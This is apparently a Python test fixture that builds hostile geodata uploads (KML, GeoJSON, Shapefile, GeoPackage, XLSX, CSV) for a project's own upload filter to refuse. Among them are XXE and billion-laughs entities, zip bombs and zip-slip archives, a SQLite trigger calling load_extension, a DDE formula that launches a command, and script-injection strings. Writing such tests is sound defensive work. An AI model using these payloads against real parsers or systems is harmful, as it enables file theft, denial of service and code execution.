"""Hostile files, one builder for each class, for our own upload door to refuse or to make harmless.

The bait is a file that nothing may read and a port that nothing may call. All bombs are bounded: unpacked by a guard
that fails, the largest would be 500 MB.
"""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import geopandas
import shapely

FEATURE = '{"type":"Feature","properties":{"name":"a"},"geometry":{"type":"Point","coordinates":[35.8,33.1]}}'
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
POINT = "<Point><coordinates>35.8,33.1</coordinates></Point>"


@dataclass(frozen=True)
class Bait:
    """A file that must not be read and an address that must not be called."""

    canary: Path
    url: str


@dataclass(frozen=True)
class Hostile:
    """A hostile file.

    Attributes
    ----------
    name : str
        What it is called.
    build : callable
        Makes its content.
    words : str
        Part of the message with which it is refused; empty where it is read and made harmless.
    """

    name: str
    build: Callable[[Bait], bytes]
    words: str = ""


def vrt(bait: Bait) -> bytes:
    return f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{bait.canary}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'.encode()  # noqa: E501


def gdalg(bait: Bait) -> bytes:
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {bait.canary}"}
    ).encode()


def wfs(bait: Bait) -> bytes:
    return f"<OGRWFSDataSource><URL>{bait.url}/wfs?SERVICE=WFS</URL></OGRWFSDataSource>".encode()


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _xxe(bait: Bait, *, encoding: str = "utf-8", of: str = "") -> bytes:
    target = of or bait.canary.as_uri()
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{target}">]>' + KML.format(
        f"<Placemark><name>&x;</name>{POINT}</Placemark>"
    )
    return text.encode(encoding)


def _parameter_entity(bait: Bait) -> bytes:
    start = f'<!DOCTYPE kml [<!ENTITY % p SYSTEM "{bait.url}/x.dtd"> %p;]>'
    return (start + KML.format(f"<Placemark>{POINT}</Placemark>")).encode()


def _laughs(bait: Bait) -> bytes:
    names = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    start = f'<!DOCTYPE kml [<!ENTITY a0 "ha">{"".join(names)}]>'
    return (start + KML.format("<Placemark><name>&a11;</name></Placemark>")).encode()


def _quadratic(bait: Bait) -> bytes:
    start = f'<!DOCTYPE kml [<!ENTITY a "{"a" * 100_000}">]>'
    return (start + KML.format(f"<Placemark><name>{'&a;' * 50_000}</name></Placemark>")).encode()


def _followed(bait: Bait) -> bytes:
    """Build a KML full of addresses, none of which may be called, and of paths, none of which may be read."""
    links = "".join(
        f"<NetworkLink><Link><href>{to}</href></Link></NetworkLink>" for to in (bait.url, bait.canary.as_uri())
    )
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.canary.as_uri()}" parse="text"/>'
    style = f"<Style><IconStyle><Icon><href>{bait.url}/i.png</href></Icon></IconStyle></Style>"
    overlay = f"<GroundOverlay><Icon><href>{bait.url}/g.png</href></Icon></GroundOverlay>"
    schema = f'<SchemaData schemaUrl="{bait.url}/s"><SimpleData name="x">1</SimpleData></SchemaData>'
    data = f"<ExtendedData>{schema}</ExtendedData>"
    text = f'<description><![CDATA[<img src="{bait.url}/p.png"><iframe src="{bait.url}"></iframe>]]></description>'
    styled = f"<Placemark><styleUrl>{bait.url}/style.kml#a</styleUrl>{text}{data}{include}{POINT}</Placemark>"
    head = f'<?xml-stylesheet href="{bait.url}/x.xsl"?>'
    return (head + KML.format(links + style + overlay + styled)).encode()


def _symlink(bait: Bait) -> bytes:
    out = io.BytesIO()
    info = zipfile.ZipInfo("doc.kml")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, str(bait.canary))
    return out.getvalue()


def overlapping(bait: Bait) -> bytes:
    """Build an archive with one member under five thousand names, which claims 500 MB."""
    content = zipped({"0000.kml": bytes(100_000)})
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry, copies = content[start:end], 900
    directory = b"".join(entry[:46] + f"{number:04d}.kml".encode() + entry[54:] for number in range(copies))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), start, 0)
    return content[:start] + directory + tail


def _bomb(member: str, megabytes: int) -> Callable[[Bait], bytes]:
    def build(bait: Bait) -> bytes:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open(member, "w") as target,
        ):
            for _ in range(megabytes):
                target.write(b" " * 1_000_000)
        return out.getvalue()

    return build


def package(script: str) -> Callable[[Bait], bytes]:
    """Return a builder of a GeoPackage that SQL was let loose on; ``{canary}`` and ``{url}`` are the bait."""

    def build(bait: Bait) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "x.gpkg"
            frame = geopandas.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(35.8, 33.1)], crs=4326)
            frame.to_file(path, layer="events")
            database = sqlite3.connect(path)
            for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type='trigger'").fetchall():
                database.execute(f'DROP TRIGGER "{name}"')
            database.executescript(script.format(canary=bait.canary, url=bait.url))
            database.close()
            return path.read_bytes()

    return build


def shapes(change: Callable[[dict[str, bytes], Bait], None]) -> Callable[[Bait], bytes]:
    """Return a builder of a zipped Shapefile whose files were changed."""

    def build(bait: Bait) -> bytes:
        with tempfile.TemporaryDirectory() as folder:
            frame = geopandas.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(35.8, 33.1)], crs=4326)
            frame.to_file(Path(folder) / "x.shp")
            members = {path.name: path.read_bytes() for path in Path(folder).glob("x.*")}
        change(members, bait)
        return zipped(members)

    return build


def _grids(members: dict[str, bytes], bait: Bait) -> None:
    members["x.prj"] = f'PROJCS["x",EXTENSION["PROJ4","+proj=merc +nadgrids={bait.canary}"]]'.encode()


def _vrt_as_shp(members: dict[str, bytes], bait: Bait) -> None:
    members["x.shp"] = vrt(bait)


def _many_shapes(members: dict[str, bytes], bait: Bait) -> None:
    """Claim a line of two thousand million vertices."""
    content = struct.pack("<i4d2i", 3, 0, 0, 1, 1, 1, 2_000_000_000) + bytes(64)
    record = struct.pack(">2i", 1, len(content) // 2) + content
    head = struct.pack(">i5ii", 9994, 0, 0, 0, 0, 0, (100 + len(record)) // 2) + struct.pack("<2i8d", 1000, 3, *[0] * 8)
    members["x.shp"] = head + record
    del members["x.shx"]


def _sheet(text: str) -> Callable[[Bait], bytes]:
    """Return a builder of an Excel workbook with this as its sheet; ``{canary}`` is the bait."""
    names = "http://schemas.openxmlformats.org/"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"

    def build(bait: Bait) -> bytes:
        return zipped(
            {
                "[Content_Types].xml": f'<Types xmlns="{names}package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>'.encode(),  # noqa: E501
                "_rels/.rels": f'<Relationships xmlns="{names}package/2006/relationships"><Relationship Id="r1" Type="{names}officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),  # noqa: E501
                "xl/workbook.xml": f'<workbook xmlns="{names}spreadsheetml/2006/main" xmlns:r="{names}officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),  # noqa: E501
                "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{names}package/2006/relationships"><Relationship Id="r1" Type="{names}officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode(),  # noqa: E501
                "xl/worksheets/sheet1.xml": text.format(
                    canary=bait.canary.as_uri(), main=f"{names}spreadsheetml/2006/main"
                ).encode(),
            }
        )

    return build


def _of(text: str) -> Callable[[Bait], bytes]:
    return lambda bait: text.encode()


def _crs_link(bait: Bait) -> bytes:
    crs = {"type": "link", "properties": {"href": f"{bait.url}/crs", "type": "ogcwkt"}}
    return json.dumps({"type": "FeatureCollection", "crs": crs, "features": []}).encode()


_CELLS = '<c r="{c}1" t="inlineStr"><is><t>{t}</t></is></c>'
_SHEET = '<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'  # noqa: E501
FORMULAS = ("=HYPERLINK(0)", "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", "\tx")
SCRIPTS = (
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% raw %}",
    "${alert(1)}",
    "`${1}`",
    "</script>",
    "<img src=x onerror=alert(1)>",
)

HOSTILE: dict[str, Hostile] = {
    "vrt": Hostile("mine.geojson", vrt, "of XML only KML"),
    "vrt-as-kml": Hostile("mine.kml", vrt, "of XML only KML"),
    "gdalg": Hostile("mine.geojson", gdalg, "commands are never run"),
    "wfs": Hostile("mine.geojson", wfs, "of XML only KML"),
    "vrt-in-kmz": Hostile("mine.kmz", lambda bait: zipped({"doc.kml": vrt(bait)}), "of XML only KML"),
    "wfs-in-kmz": Hostile("mine.kmz", lambda bait: zipped({"doc.kml": wfs(bait)}), "of XML only KML"),
    "vrt-as-shp": Hostile("mine.zip", shapes(_vrt_as_shp), "not a Shapefile"),
    "xxe-file": Hostile("mine.kml", _xxe, "DOCTYPE"),
    "xxe-utf-16": Hostile("mine.kml", lambda bait: _xxe(bait, encoding="utf-16"), "DOCTYPE"),
    "xxe-web": Hostile("mine.kml", lambda bait: _xxe(bait, of=f"{bait.url}/e"), "DOCTYPE"),
    "xxe-in-kmz": Hostile("mine.kmz", lambda bait: zipped({"doc.kml": _xxe(bait)}), "DOCTYPE"),
    "parameter-entity": Hostile("mine.kml", _parameter_entity, "DOCTYPE"),
    "xxe-in-xlsx": Hostile("mine.xlsx", _sheet('<!DOCTYPE x [<!ENTITY x SYSTEM "{canary}">]>' + _SHEET), "mine.xlsx"),
    "billion-laughs": Hostile("mine.kml", _laughs, "DOCTYPE"),
    "quadratic-blow-up": Hostile("mine.kml", _quadratic, "DOCTYPE"),
    "laughs-in-xlsx": Hostile(
        "mine.xlsx",
        _sheet('<!DOCTYPE x [<!ENTITY a "' + "a" * 50_000 + '"><!ENTITY x "' + "&a;" * 9_000 + '">]>' + _SHEET),
        "mine.xlsx",
    ),
    "addresses-in-kml": Hostile("mine.kml", _followed),
    "zip-slip": Hostile("mine.kmz", lambda bait: zipped({"../../doc.kml": b"<kml/>"}), "'..'"),
    "zip-slip-backslash": Hostile("mine.kmz", lambda bait: zipped({"..\\doc.kml": b"<kml/>"}), "backslash"),
    "zip-absolute": Hostile("mine.zip", lambda bait: zipped({"/tmp/x.shp": b"x"}), "absolute"),
    "zip-symlink": Hostile("mine.kmz", _symlink, "link"),
    "zip-in-zip": Hostile("mine.kmz", lambda bait: zipped({"doc.kml": zipped({"doc.kml": b"<kml/>"})}), "archive"),
    "zip-bomb": Hostile("mine.kmz", _bomb("doc.kml", 500), "come out of the archive"),
    "zip-bomb-by-ratio": Hostile("mine.kmz", _bomb("doc.kml", 100), "as a zip bomb does"),
    "zip-bomb-xlsx": Hostile("mine.xlsx", _bomb("xl/workbook.xml", 100), "zip bomb"),
    "zip-bomb-shp": Hostile("mine.zip", _bomb("x.shp", 100), "zip bomb"),
    "overlap-bomb": Hostile("mine.kmz", overlapping, "overlap"),
    "deep-lists": Hostile("mine.geojson", _of('{"type":"Feature","geometry":' + "[" * 200_000), "nested 200,001 deep"),
    "deep-objects": Hostile("mine.geojson", _of('{"type":"Feature","a":' + '{"a":' * 200_000), "nested 200,001 deep"),
    "deep-table": Hostile("mine.json", _of("[" * 200_000), "mine.json"),
    "deep-closed": Hostile("mine.json", _of('[{"lat":1,"lon":' + "[" * 200_000 + "]" * 200_000 + "}]"), "mine.json"),
    "deep-xml": Hostile("mine.kml", _of("<kml>" + "<Folder>" * 200_000), "nested more than"),
    "many-vertices": Hostile(
        "mine.geojson", _of('{"type":"LineString","coordinates":[' + "[1,2]," * 2_100_000 + "[1,2]]}"), "vertices"
    ),
    "many-vertices-kml": Hostile(
        "mine.kml",
        _of(
            KML.format(
                f"<Placemark><LineString><coordinates>{'1,2 ' * 2_100_000}</coordinates></LineString></Placemark>"
            )
        ),
        "vertices",
    ),
    "many-vertices-shp": Hostile("mine.zip", shapes(_many_shapes), "mine.zip"),
    "many-properties": Hostile(
        "mine.geojson",
        _of(json.dumps({"type": "Feature", "geometry": None, "properties": {str(n): 1 for n in range(100_000)}})),
        "different properties",
    ),
    "endless-prolog": Hostile("mine.kml", _of("<?" * 320_000), "mine.kml"),
    "endless-comments": Hostile("mine.kml", _of("<!--" * 160_000), "mine.kml"),
    "endless-json-keys": Hostile("mine.json", _of('{"type":' * 80_000), "mine.json"),
    "endless-quotes": Hostile("mine.csv", _of('"' * 600_001 + "," * 50_000), "mine.csv"),
    "many-members": Hostile("mine.kmz", lambda bait: zipped({f"{n}.kml": b"" for n in range(20_000)}), "members"),
    "sqlite-view": Hostile("mine.gpkg", package("CREATE VIEW v AS SELECT * FROM events"), "the view 'v'"),
    "sqlite-view-as-layer": Hostile(
        "mine.gpkg",
        package(
            "ALTER TABLE events RENAME TO other; CREATE VIEW events AS "
            "SELECT fid, geom, (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n) SELECT max(i) FROM n) "
            "AS name FROM other"
        ),
        "view",
    ),
    "sqlite-trigger": Hostile(
        "mine.gpkg",
        package("CREATE TRIGGER t AFTER INSERT ON events BEGIN SELECT load_extension('{canary}'); END"),
        "trigger",
    ),
    "sqlite-virtual": Hostile("mine.gpkg", package("CREATE VIRTUAL TABLE t USING fts5(x)"), "virtual table"),
    "sqlite-computed": Hostile(
        "mine.gpkg", package("ALTER TABLE events ADD COLUMN b AS (hex(zeroblob(900000000))) VIRTUAL")
    ),
    "sqlite-grids": Hostile(
        "mine.gpkg",
        package(
            "UPDATE gpkg_spatial_ref_sys SET organization='X', "
            "definition='+proj=longlat +nadgrids={canary}' WHERE srs_id=4326"
        ),
    ),
    "prj-grids": Hostile("mine.zip", shapes(_grids), "names files"),
    "crs-link": Hostile("mine.geojson", _crs_link, "crs"),
    "csv-formulas": Hostile("mine.csv", _of("name,lat,lon\n" + "".join(f'"{text}",33.1,35.8\n' for text in FORMULAS))),
    "script-in-names": Hostile(
        "mine.geojson",
        _of(
            json.dumps(
                {
                    "type": "FeatureCollection",
                    "features": [
                        {"type": "Feature", "id": text, "geometry": None, "properties": {"name": text, text: text}}
                        for text in SCRIPTS
                    ],
                }
            )
        ),
    ),
    "script-in-kml": Hostile(
        "mine.kml",
        _of(KML.format("".join(f"<Placemark><name><![CDATA[{text}]]></name>{POINT}</Placemark>" for text in SCRIPTS))),
    ),
    "path-as-name": Hostile("/vsicurl/http://127.0.0.1:9/x.geojson", _of(FEATURE)),
    "picture-and-archive": Hostile("mine.kmz", lambda bait: b"GIF89a" + zipped({"doc.kml": b"<kml/>"}), "picture"),
}
"""Every hostile class by its name."""
